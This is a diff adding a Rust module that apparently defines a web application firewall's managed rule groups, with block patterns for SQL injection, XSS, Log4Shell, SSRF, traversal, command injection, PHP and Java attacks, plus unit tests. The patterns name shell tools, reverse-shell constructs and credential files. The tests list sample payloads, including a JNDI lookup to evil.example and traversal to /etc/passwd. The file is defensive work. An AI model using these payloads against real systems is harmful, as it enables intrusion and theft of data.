@@ -1,0 +1,673 @@
+//! The managed rule groups SecureCart ships, as AWS WAF's managed rule groups: each rule
+//! with a stable id, blocking by default. What they look for follows the OWASP Core Rule
+//! Set's families (920 protocol, 930 traversal, 931 remote inclusion, 932 command
+//! injection, 933 PHP, 934 generic, 941 XSS, 942 SQL injection, 944 Java), written anew
+//! for this engine: libinjection's detectors for SQL and HTML, and short expressions for
+//! the rest, each over the fields and transformations it needs.
+
+use http::HeaderName;
+
+use crate::acl::{Rule, RuleAction, WebAcl};
+use crate::inspect::Field;
+use crate::statement::Statement;
+use crate::transform::Transform;
+
+/// A managed rule group.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Group {
+    /// Protocol anomalies, scanners, methods.
+    Core,
+    /// SQL injection.
+    Sqli,
+    /// Cross-site scripting.
+    Xss,
+    /// Known bad inputs: Log4Shell lookups, SSRF to cloud metadata, path traversal, remote
+    /// file inclusion.
+    KnownBadInputs,
+    /// Unix and Windows command injection.
+    CommandInjection,
+    /// PHP attacks.
+    Php,
+    /// Java and Node.js attacks.
+    Java,
+}
+
+impl Group {
+    /// Every group.
+    pub const ALL: [Group; 7] = [
+        Group::Core,
+        Group::Sqli,
+        Group::Xss,
+        Group::KnownBadInputs,
+        Group::CommandInjection,
+        Group::Php,
+        Group::Java,
+    ];
+
+    /// Its name, as the topology writes it.
+    pub fn name(self) -> &'static str {
+        match self {
+            Group::Core => "core",
+            Group::Sqli => "sql-injection",
+            Group::Xss => "xss",
+            Group::KnownBadInputs => "known-bad-inputs",
+            Group::CommandInjection => "command-injection",
+            Group::Php => "php",
+            Group::Java => "java",
+        }
+    }
+
+    /// The group of a name.
+    pub fn from_name(name: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|group| group.name() == name)
+    }
+
+    /// Its rules, with priorities from `base` up.
+    pub fn rules(self, base: u32) -> Vec<Rule> {
+        let specs: Vec<(&str, Statement)> = match self {
+            Group::Core => core(),
+            Group::Sqli => sqli(),
+            Group::Xss => xss(),
+            Group::KnownBadInputs => known_bad_inputs(),
+            Group::CommandInjection => command_injection(),
+            Group::Php => php(),
+            Group::Java => java(),
+        };
+        specs
+            .into_iter()
+            .enumerate()
+            .map(|(index, (id, statement))| Rule {
+                id: id.to_owned(),
+                priority: base + index as u32,
+                statement,
+                action: RuleAction::Block,
+                labels: vec![format!("securecart:managed:{}:{id}", self.name())],
+            })
+            .collect()
+    }
+}
+
+/// The default web ACL: every managed group, blocking; what none blocks is allowed.
+pub fn default_acl() -> WebAcl {
+    let rules = Group::ALL
+        .into_iter()
+        .enumerate()
+        .flat_map(|(index, group)| group.rules(1000 * (index as u32 + 1)))
+        .collect();
+    WebAcl::new(rules, false)
+}
+
+/// Where user input arrives: argument names and values, form and JSON body values, and
+/// cookies.
+fn inputs() -> Vec<Field> {
+    vec![
+        Field::AllQueryArguments,
+        Field::QueryArgumentNames,
+        Field::BodyFields,
+        Field::Cookies,
+    ]
+}
+
+/// One statement over several fields: any of them.
+fn over(fields: Vec<Field>, statement: impl Fn(Field) -> Statement) -> Statement {
+    Statement::Or(fields.into_iter().map(statement).collect())
+}
+
+fn regex(field: Field, pattern: &str, transforms: &[Transform]) -> Statement {
+    Statement::Regex {
+        field,
+        // Bytes, not text: `\s`, `\w` and `(?i)` are ASCII's, and any byte may match.
+        regex: regex::bytes::RegexBuilder::new(pattern)
+            .unicode(false)
+            .build()
+            .unwrap_or_else(|error| {
+                // The patterns are this file's constants; a bad one is caught by the tests.
+                panic!("managed rule pattern {pattern:?}: {error}")
+            }),
+        transforms: transforms.to_vec(),
+    }
+}
+
+fn any_of(field: Field, strings: &[&str], transforms: &[Transform]) -> Statement {
+    Statement::AnyOf {
+        field,
+        searcher: aho_corasick::AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(strings)
+            .unwrap_or_else(|error| panic!("managed rule strings: {error}")),
+        transforms: transforms.to_vec(),
+    }
+}
+
+use Transform::{
+    CmdLine, CompressWhitespace, HtmlEntityDecode, JsDecode, Lowercase, NormalizePathWin,
+    RemoveNulls, ReplaceComments, UrlDecodeUni,
+};
+
+fn header(name: &'static str) -> Field {
+    Field::Header(HeaderName::from_static(name))
+}
+
+fn core() -> Vec<(&'static str, Statement)> {
+    let allowed_methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
+    vec![
+        (
+            "SC-CORE-001",
+            Statement::Not(Box::new(Statement::Or(
+                allowed_methods
+                    .iter()
+                    .map(|method| Statement::ByteMatch {
+                        field: Field::Method,
+                        position: crate::statement::Position::Exactly,
+                        search: method.as_bytes().to_vec(),
+                        transforms: Vec::new(),
+                    })
+                    .collect(),
+            ))),
+        ),
+        (
+            "SC-CORE-002",
+            any_of(
+                header("user-agent"),
+                &[
+                    "nikto",
+                    "sqlmap",
+                    "nmap",
+                    "masscan",
+                    "dirbuster",
+                    "gobuster",
+                    "wpscan",
+                    "nuclei",
+                    "acunetix",
+                    "nessus",
+                    "openvas",
+                    "zgrab",
+                    "w3af",
+                    "havij",
+                    "arachni",
+                    "skipfish",
+                    "whatweb",
+                    "fuzz faster u fool",
+                    "morfeus",
+                    "zmeu",
+                    "netsparker",
+                    "appscan",
+                    "webinspect",
+                    "burpcollaborator",
+                    "jorgee",
+                ],
+                &[],
+            ),
+        ),
+        (
+            "SC-CORE-003",
+            over(
+                vec![Field::UriPath, Field::QueryString, Field::BodyFields],
+                |field| any_of(field, &["\0"], &[UrlDecodeUni]),
+            ),
+        ),
+        (
+            "SC-CORE-004",
+            regex(
+                Field::QueryString,
+                r"%(?:[^0-9A-Fa-fUu]|[0-9A-Fa-f][^0-9A-Fa-f]|[0-9A-Fa-f]?$)",
+                &[],
+            ),
+        ),
+        (
+            "SC-CORE-005",
+            over(
+                vec![
+                    Field::AllQueryArguments,
+                    Field::QueryArgumentNames,
+                    Field::BodyFields,
+                    Field::UriPath,
+                ],
+                |field| {
+                    regex(
+                        field,
+                        r"(?i)[\r\n]\s*(?:content-(?:type|length)|set-cookie|location|refresh|http/\d)\s*:?",
+                        &[UrlDecodeUni],
+                    )
+                },
+            ),
+        ),
+    ]
+}
+
+fn sqli() -> Vec<(&'static str, Statement)> {
+    vec![
+        (
+            "SC-SQLI-001",
+            over(inputs(), |field| Statement::Sqli {
+                field,
+                transforms: vec![RemoveNulls],
+            }),
+        ),
+        (
+            "SC-SQLI-002",
+            over(inputs(), |field| Statement::Sqli {
+                field,
+                transforms: vec![UrlDecodeUni, HtmlEntityDecode],
+            }),
+        ),
+        (
+            "SC-SQLI-003",
+            over(inputs(), |field| {
+                regex(
+                    field,
+                    r"(?i)\bunion\b(?:\s|\(|/\*.*?\*/)*(?:all|distinct)?(?:\s|\()*select\b|\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file|sys_eval|dbms_pipe\.receive_message)\s*\(|\bwaitfor\s+delay\b|\binformation_schema\b|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b|\b(?:select|insert|update|delete)\b[^;]{0,100}\b(?:from|into|set)\b[^;]{0,100}\b(?:where|values|limit)\b|'\s*(?:or|and|\|\||&&)\s*'?\w*'?\s*(?:=|like|<|>)|;\s*(?:drop|truncate|alter|shutdown)\b",
+                    &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
+                )
+            }),
+        ),
+    ]
+}
+
+fn xss() -> Vec<(&'static str, Statement)> {
+    let mut fields = inputs();
+    fields.push(header("referer"));
+    fields.push(header("user-agent"));
+    vec![
+        (
+            "SC-XSS-001",
+            over(fields.clone(), |field| Statement::Xss {
+                field,
+                transforms: vec![UrlDecodeUni, HtmlEntityDecode, JsDecode, RemoveNulls],
+            }),
+        ),
+        (
+            "SC-XSS-002",
+            over(fields, |field| {
+                regex(
+                    field,
+                    r"(?i)<\s*/?\s*(?:script|iframe|object|embed|applet|svg|math|form|base|link|meta|frameset|isindex)\b|\b(?:java|vb|live)script\s*:|\bon(?:error|load|unload|mouse\w+|focus\w*|blur|click|dblclick|submit|change|input|key\w+|toggle|animation\w+|transition\w+|pointer\w+|begin|end|hashchange|pageshow|message|wheel|scroll|drag\w*|drop|copy|cut|paste|invalid|search|select|show|start|finish)\s*=|\bsrcdoc\s*=|data\s*:\s*text/html|\bexpression\s*\(|<\s*\w+[^>]*\bstyle\s*=[^>]*(?:expression|url)\s*\(",
+                    &[
+                        UrlDecodeUni,
+                        HtmlEntityDecode,
+                        JsDecode,
+                        RemoveNulls,
+                        CompressWhitespace,
+                    ],
+                )
+            }),
+        ),
+    ]
+}
+
+fn known_bad_inputs() -> Vec<(&'static str, Statement)> {
+    let everywhere = || {
+        let mut fields = inputs();
+        fields.push(Field::UriPath);
+        fields.push(Field::AllHeaders);
+        fields
+    };
+    vec![
+        (
+            "SC-KBI-001",
+            over(everywhere(), |field| {
+                regex(
+                    field,
+                    r"(?i)\$\{(?:[^}]*\$\{)*[^}]*?(?:jndi|lower|upper|env|sys|java|date|base64|main|bundle|ctx|spring|k8s|docker|log4j|sd|web)\s*:",
+                    &[UrlDecodeUni, UrlDecodeUni, JsDecode, Lowercase],
+                )
+            }),
+        ),
+        (
+            "SC-KBI-002",
+            over(everywhere(), |field| {
+                any_of(
+                    field,
+                    &[
+                        "169.254.169.254",
+                        "metadata.google.internal",
+                        "100.100.100.200",
+                        "fd00:ec2::254",
+                        "instance-data",
+                        "0xa9fea9fe",
+                        "2852039166",
+                        "169.254.170.2",
+                    ],
+                    &[UrlDecodeUni],
+                )
+            }),
+        ),
+        (
+            "SC-KBI-003",
+            over(
+                vec![
+                    Field::UriPath,
+                    Field::AllQueryArguments,
+                    Field::QueryArgumentNames,
+                    Field::BodyFields,
+                    Field::Cookies,
+                    header("referer"),
+                ],
+                |field| {
+                    regex(
+                        field,
+                        r"(?:^|[\\/])\.{2,}(?:[\\/]|$)|%(?:c0%ae|c0%af|c1%9c|e0%80%af|25(?:2e|2f|5c))",
+                        &[UrlDecodeUni, UrlDecodeUni],
+                    )
+                },
+            ),
+        ),
+        (
+            "SC-KBI-004",
+            over(
+                vec![
+                    Field::UriPath,
+                    Field::AllQueryArguments,
+                    Field::BodyFields,
+                    Field::Cookies,
+                ],
+                |field| {
+                    any_of(
+                        field,
+                        &[
+                            "/etc/passwd",
+                            "/etc/shadow",
+                            "/etc/group",
+                            "/etc/hosts",
+                            "/etc/issue",
+                            "/proc/self/",
+                            "/proc/version",
+                            "/var/log/",
+                            "win.ini",
+                            "boot.ini",
+                            "system32/",
+                            "/.htaccess",
+                            "/.htpasswd",
+                            "/.git/",
+                            "/.svn/",
+                            "/.env",
+                            "web.config",
+                            "/.ssh/",
+                            "id_rsa",
+                            "/.aws/credentials",
+                            "/.bash_history",
+                        ],
+                        &[UrlDecodeUni, UrlDecodeUni, NormalizePathWin, Lowercase],
+                    )
+                },
+            ),
+        ),
+        (
+            "SC-KBI-005",
+            over(vec![Field::AllQueryArguments, Field::BodyFields], |field| {
+                regex(
+                    field,
+                    r"(?i)^\s*(?:file|ftps?|https?|gopher|dict|ldap|tftp)://(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[[0-9a-f:]+\])|^\s*(?:ftps?|https?)://[^?#]*\?+\s*$|^\s*(?:file|gopher|dict|ldap|tftp|expect|jar|netdoc)://",
+                    &[UrlDecodeUni],
+                )
+            }),
+        ),
+    ]
+}
+
+fn command_injection() -> Vec<(&'static str, Statement)> {
+    let fields = || {
+        let mut fields = inputs();
+        fields.push(header("user-agent"));
+        fields.push(header("referer"));
+        fields
+    };
+    vec![
+        (
+            "SC-CMD-001",
+            over(fields(), |field| {
+                regex(
+                    field,
+                    r"(?i)(?:[;&|`\n\r]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|python[23]?|perl|ruby|php|chmod|chown|rm|echo|ping|nslookup|dig|telnet|ssh|scp|tftp|busybox|sleep|kill|ps|env|printenv|more|less|head|tail|nohup|xterm|gcc|awk|sed|find|grep|ifconfig|netstat|crontab|useradd|passwd|sudo|su|tar|base64|xxd|nmap|socat|mkfifo|timeout)\b",
+                    &[UrlDecodeUni, RemoveNulls],
+                )
+            }),
+        ),
+        (
+            "SC-CMD-002",
+            over(fields(), |field| {
+                regex(
+                    field,
+                    r"\$\([^)]{1,200}\)|`[^`]{1,200}`|\$\{IFS\}|/bin/(?:ba|z|k|da)?sh\b|/dev/(?:tcp|udp)/|;\s*\w+\s*=\s*\$\(|\|\s*(?:ba|z)?sh\b",
+                    &[UrlDecodeUni, RemoveNulls],
+                )
+            }),
+        ),
+        (
+            "SC-CMD-003",
+            over(fields(), |field| {
+                regex(
+                    field,
+                    r"(?i)(?:^|[;&|`\n\r])\s*(?:cmd(?:\.exe)?\s*/[ck]|powershell(?:\.exe)?|pwsh|certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript|net\s+(?:user|localgroup)|ipconfig|tasklist|taskkill|systeminfo|reg\s+(?:query|add|delete)|wmic|schtasks|type\s+\S+|dir\s+\S*[\\/])",
+                    &[UrlDecodeUni, CmdLine],
+                )
+            }),
+        ),
+    ]
+}
+
+fn php() -> Vec<(&'static str, Statement)> {
+    let fields = || {
+        let mut fields = inputs();
+        fields.push(Field::UriPath);
+        fields
+    };
+    vec![
+        (
+            "SC-PHP-001",
+            over(fields(), |field| {
+                any_of(
+                    field,
+                    &[
+                        "<?php",
+                        "<?=",
+                        "php://input",
+                        "php://filter",
+                        "php://stdin",
+                        "php://memory",
+                        "phar://",
+                        "zlib://",
+                        "glob://",
+                        "expect://",
+                        "zip://",
+                        "data://text/plain",
+                    ],
+                    &[UrlDecodeUni],
+                )
+            }),
+        ),
+        (
+            "SC-PHP-002",
+            over(fields(), |field| {
+                regex(
+                    field,
+                    r"(?i)\b(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo|file_get_contents|file_put_contents|fopen|fwrite|readfile|show_source|highlight_file|create_function|call_user_func(?:_array)?|preg_replace|unserialize|move_uploaded_file|ini_set|putenv|escapeshellcmd|symlink)\s*\(|\b(?:include|require)(?:_once)?\s*\(?\s*['\x22]?(?:https?|ftp|php|data)://|\bO:\d+:\x22[A-Za-z_\\][\w\\]*\x22:\d+:\{|\b(?:allow_url_include|allow_url_fopen|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode)\s*=",
+                    &[UrlDecodeUni, ReplaceComments, RemoveNulls],
+                )
+            }),
+        ),
+    ]
+}
+
+fn java() -> Vec<(&'static str, Statement)> {
+    let fields = || {
+        let mut fields = inputs();
+        fields.push(Field::UriPath);
+        fields.push(Field::AllHeaders);
+        fields
+    };
+    vec![
+        (
+            "SC-JAVA-001",
+            over(fields(), |field| {
+                regex(
+                    field,
+                    r"(?i)java\.lang\.(?:runtime|processbuilder|system|class|reflect)|\.getruntime\s*\(|\.exec\s*\(|class\.module\.classloader|\bclassloader\b|javax\.script|org\.apache\.commons\.collections|com\.sun\.org\.apache|java\.io\.(?:file|objectinputstream)|\bognl\b|#_memberaccess|@java\.|\bjava\.net\.url\b|\bjndi:|\$\{\s*(?:class|script|runtime)",
+                    &[UrlDecodeUni, JsDecode, RemoveNulls],
+                )
+            }),
+        ),
+        (
+            "SC-JAVA-002",
+            over(fields(), |field| {
+                regex(
+                    field,
+                    r"(?i)\brequire\s*\(\s*['\x22](?:child_process|fs|net|vm|os)['\x22]\s*\)|\bprocess\.(?:mainmodule|binding|env)\b|\b__proto__\b|\bconstructor\s*\[\s*['\x22]?prototype|\bchild_process\b|\.constructor\s*\(\s*['\x22]return",
+                    &[UrlDecodeUni, JsDecode],
+                )
+            }),
+        ),
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::Inspection;
+    use http::HeaderMap;
+
+    /// The default ACL's verdict on a GET with `query`, or a POST of `form`.
+    fn verdict(query: Option<&str>, form: Option<&str>, user_agent: &str) -> crate::Verdict {
+        let mut headers = HeaderMap::new();
+        headers.insert("user-agent", user_agent.parse().expect("value"));
+        headers.insert(
+            "content-type",
+            "application/x-www-form-urlencoded".parse().expect("value"),
+        );
+        let body = form.unwrap_or("").as_bytes();
+        let inspection = Inspection::new(
+            if form.is_some() { "POST" } else { "GET" },
+            "/search",
+            query,
+            &headers,
+            body,
+            false,
+            "127.0.0.1".parse().expect("address"),
+        );
+        default_acl().evaluate(&inspection)
+    }
+
+    #[test]
+    fn attacks_of_every_family_are_blocked_by_their_rule() {
+        let browser = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";
+        let cases = [
+            ("q=1234%20OR%201%3D1", "SC-SQLI"),
+            ("q=-1839%27%20or%20%271%27%3D%271", "SC-SQLI"),
+            (
+                "id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users",
+                "SC-SQLI",
+            ),
+            ("id=1;%20DROP%20TABLE%20orders", "SC-SQLI"),
+            ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "SC-XSS"),
+            ("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "SC-XSS"),
+            ("next=javascript:alert(document.cookie)", "SC-XSS"),
+            (
+                "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+                "SC-KBI-001",
+            ),
+            (
+                "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
+                "SC-KBI-002",
+            ),
+            ("file=..%2F..%2F..%2Fetc%2Fpasswd", "SC-KBI-003"),
+            ("file=%252e%252e%252fetc%252fpasswd", "SC-KBI-003"),
+            ("file=/etc/shadow", "SC-KBI-004"),
+            ("include=http%3A%2F%2F10.0.0.1%2Fshell.txt%3F", "SC-KBI-005"),
+            ("host=example.com%3B%20uname%20-a", "SC-CMD"),
+            ("host=%24(whoami)", "SC-CMD"),
+            ("cmd=%7C%20powershell%20-enc%20abc", "SC-CMD"),
+            ("page=php%3A%2F%2Ffilter%2Fresource%3Dindex", "SC-PHP-001"),
+            ("x=system(%27id%27)", "SC-PHP-002"),
+            ("x=java.lang.Runtime.getRuntime().exec(%27id%27)", "SC-"),
+            (
+                "class.module.classLoader.resources.context=x",
+                "SC-JAVA-001",
+            ),
+            ("x=%7B%22__proto__%22%3A%7B%7D%7D", "SC-JAVA-002"),
+        ];
+        for (query, family) in cases {
+            let verdict = verdict(Some(query), None, browser);
+            assert!(verdict.blocked, "{query} passed");
+            let rule = verdict.terminating_rule.expect("a rule decided");
+            assert!(rule.starts_with(family), "{query}: {rule}, not {family}");
+        }
+        let scanner = verdict(
+            Some("q=shoes"),
+            None,
+            "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        );
+        assert_eq!(scanner.terminating_rule.as_deref(), Some("SC-CORE-002"));
+        let posted = verdict(None, Some("var=1234+OR+1%3D1"), browser);
+        assert!(posted.blocked, "form bodies are inspected");
+    }
+
+    #[test]
+    fn ordinary_shop_traffic_is_never_blocked() {
+        let browser =
+            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 Safari/605.1.15";
+        let queries = [
+            "q=women%27s+shoes",
+            "q=%22red+dress%22",
+            "q=O%27Brien",
+            "q=rock+%26+roll+t-shirt",
+            "q=100%25+cotton",
+            "q=size+10+%2F+11",
+            "q=select+a+size+from+the+list",
+            "q=drop+earrings",
+            "q=union+jack+mug",
+            "q=C%2B%2B+book",
+            "q=what%27s+new",
+            "q=1%2F2+price",
+            "q=caf%C3%A9+au+lait",
+            "q=email%3A+ada%40example.com",
+            "page=2&per_page=50&sort=price&order=desc",
+            "category=home-%26-garden",
+            "utm_source=newsletter&utm_medium=email&utm_campaign=black-friday",
+            "redirect=%2Fcheckout",
+            "q=javascript+for+kids",
+            "q=script+writing+kit",
+            "q=The+%3Cb%3Ebest%3C%2Fb%3E+deals",
+            "q=it%27s+a+50%2F50+chance",
+            "q=ls+cable",
+            "q=cat+toy",
+        ];
+        for query in queries {
+            let verdict = verdict(Some(query), None, browser);
+            assert!(
+                !verdict.blocked,
+                "{query} was blocked by {:?}",
+                verdict.matches
+            );
+        }
+        let forms = [
+            "email=ada%40example.com&name=Ada+O%27Brien&address=1+Main+St%3B+Apt+2&card_token=tok_visa",
+            "name=Jean-Luc+Picard&address=12+Rue+de+l%27%C3%89glise&email=jl%40example.fr",
+            "comment=I+love+it%21+5%2F5+would+buy+again+%3A-%29",
+            "description=Soft+%26+warm%2C+100%25+wool.+Machine+wash+%28cold%29.",
+        ];
+        for form in forms {
+            let verdict = verdict(None, Some(form), browser);
+            assert!(
+                !verdict.blocked,
+                "{form} was blocked by {:?}",
+                verdict.matches
+            );
+        }
+        // JSON with HTML in a product description, as an admin would post it.
+        let mut headers = HeaderMap::new();
+        headers.insert("content-type", "application/json".parse().expect("value"));
+        headers.insert("user-agent", browser.parse().expect("value"));
+        let body = br#"{"name":"Winter coat","description":"<p>Warm <b>and</b> light.</p><ul><li>Wool</li></ul>","price_cents":12900,"tags":["women's","coats"]}"#;
+        let inspection = Inspection::new(
+            "POST",
+            "/api/cart/items",
+            None,
+            &headers,
+            body,
+            false,
+            "127.0.0.1".parse().expect("address"),
+        );
+        let verdict = default_acl().evaluate(&inspection);
+        assert!(!verdict.blocked, "{:?}", verdict.matches);
+    }
+}
